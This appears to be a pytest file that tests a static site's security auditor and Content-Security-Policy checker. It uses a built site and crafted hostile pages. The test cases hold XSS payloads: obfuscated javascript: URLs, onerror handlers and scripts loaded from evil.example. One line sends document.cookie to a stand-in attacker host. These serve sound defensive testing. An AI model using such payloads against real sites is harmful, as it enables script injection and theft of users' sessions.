"""tests/support/audit.py and tests/support/csp.py: on the real built site, and on pages made to fool them."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.audit import audit_site, is_dangerous_url, script_hash
from tests.support.csp import check_site, needed_hashes, parse_policy

from .sitebuild import ROOT, shared_site

CSP_PARTIAL = ROOT / "explainer" / "theme" / "partials" / "csp.html"
FRAME = """<!doctype html><html><head><title>t</title>{head}</head><body>
<header><script src="../assets/javascripts/bundle.js"></script></header>
<div class="md-content" data-md-component="content"><article class="md-content__inner md-typeset">
{content}
</article></div>
<footer>{footer}</footer></body></html>"""


@pytest.fixture(scope="module")
def site() -> Path:
    return shared_site().site


def test_audit_cli_passes_on_the_built_site(site):
    run = subprocess.run(
        [sys.executable, "-m", "tests.support.audit", str(site)], cwd=ROOT, capture_output=True, text=True
    )
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith("ok: ")


def test_every_page_carries_the_policy_and_it_allows_every_theme_script(site):
    assert check_site(site) == []


def test_the_policy_lists_exactly_the_hashes_the_pages_need(site):
    allowed = parse_policy(CSP_PARTIAL.read_text(encoding="utf-8").split('content="')[1].split('"')[0])
    listed = sorted(h.strip("'") for h in allowed["script-src"] if h.startswith("'sha256-"))
    assert listed == needed_hashes(site), (
        "update explainer/theme/partials/csp.html: python -m tests.support.csp hashes site/"
    )


def test_the_policy_is_strict():
    policy = parse_policy(CSP_PARTIAL.read_text(encoding="utf-8").split('content="')[1].split('"')[0])
    assert policy["default-src"] == ["'none'"]
    for directive in ("script-src", "style-src"):
        assert "'unsafe-inline'" not in policy[directive] and "'unsafe-eval'" not in policy[directive]
        assert not {"*", "https:", "http:", "data:", "blob:"} & set(policy[directive])
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'self'"]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:x",
        "java\nscript:x",
        "\x01javascript:x",
        "data:text/html,x",
        "VBSCRIPT:x",
        "jav&#x09;ascript:x".replace("&#x09;", "\t"),
    ],
)
def test_dangerous_urls_are_recognised_as_browsers_read_them(url):
    assert is_dangerous_url(url)


@pytest.mark.parametrize(
    "url", ["https://example.org/", "../zones/#x", "#cite-a-1", "mailto:x@example.org", "javascript"]
)
def test_ordinary_urls_pass(url):
    assert not is_dangerous_url(url)


def page(tmp_path: Path, content: str = "", footer: str = "", head: str = "") -> Path:
    site = tmp_path / "site"
    (site / "x").mkdir(parents=True)
    (site / "x" / "index.html").write_text(FRAME.format(content=content, footer=footer, head=head), encoding="utf-8")
    return site


@pytest.mark.parametrize(
    "content, expected",
    [
        ("<p>ok <a href='../y/#a'>link</a></p>", None),
        ('<script type="application/ld+json">{"@type": "Article"}</script>', None),
        ("<script>alert(1)</script>", "the content holds a <script>"),
        ('<script src="https://evil.example/x.js"></script>', "the content holds a <script>"),
        ('<script type="application/ld+json">{"a": </script>', "does not hold valid JSON"),
        ("<img src=x onerror=alert(1)>", "event-handler attribute onerror"),
        ("<svg><circle onload='x'/></svg>", "event-handler attribute onload"),
        ("<a href=' jAvA&#x09;sCrIpT:alert(1)'>x</a>", "has href="),
        ("<a href='data:text/html,x'>x</a>", "has href="),
        ("<img srcset='a.png 1x, javascript:x 2x'>", "has srcset="),
        ("<iframe src='https://example.org'></iframe>", "holds a <iframe> element"),
        ("<form action='https://example.org'></form>", "holds a <form> element"),
        ("<base href='https://evil.example/'>", "holds a <base> element"),
        ("<script/>alert(1)", "the content holds a <script>"),
    ],
)
def test_audit_finds_active_content(tmp_path, content, expected):
    findings = [str(f) for f in audit_site(page(tmp_path, content), CSP_PARTIAL)]
    if expected is None:
        assert findings == []
    else:
        assert any(expected in f and f.startswith("x/index.html:") for f in findings), findings


def test_audit_knows_the_theme_frame_from_additions(tmp_path):
    ok = audit_site(page(tmp_path, footer='<script src="../assets/javascripts/bundle.js"></script>'), CSP_PARTIAL)
    assert ok == []
    site = page(tmp_path / "b", footer="<script>fetch('https://evil.example/?'+document.cookie)</script>")
    assert any("unknown inline script" in str(f) for f in audit_site(site, CSP_PARTIAL))
    site = page(tmp_path / "c", footer='<script src="https://cdn.example/x.js"></script>')
    assert any("does not ship" in str(f) for f in audit_site(site, CSP_PARTIAL))
    site = page(tmp_path / "d", footer="<button onclick='x()'>b</button>")
    assert any("theme frame has the event-handler attribute onclick" in str(f) for f in audit_site(site, CSP_PARTIAL))


def test_csp_check_catches_what_the_policy_would_block(tmp_path):
    inline = "console.log(1)"
    policy = f"default-src 'none'; script-src 'self' '{script_hash(inline)}'; style-src 'self'"
    head = f"""<meta http-equiv="Content-Security-Policy" content="{policy}">"""
    site = page(tmp_path, content=f"<script>{inline}</script>", head=head)
    assert check_site(site) == []
    site = page(tmp_path / "b", content='<script>other()</script><p style="color: red">x</p>', head=head)
    problems = check_site(site)
    assert any("inline script not allowed" in p for p in problems)
    assert any("blocked by style-src" in p for p in problems)
    assert any("0 Content-Security-Policy" in p for p in check_site(page(tmp_path / "c")))
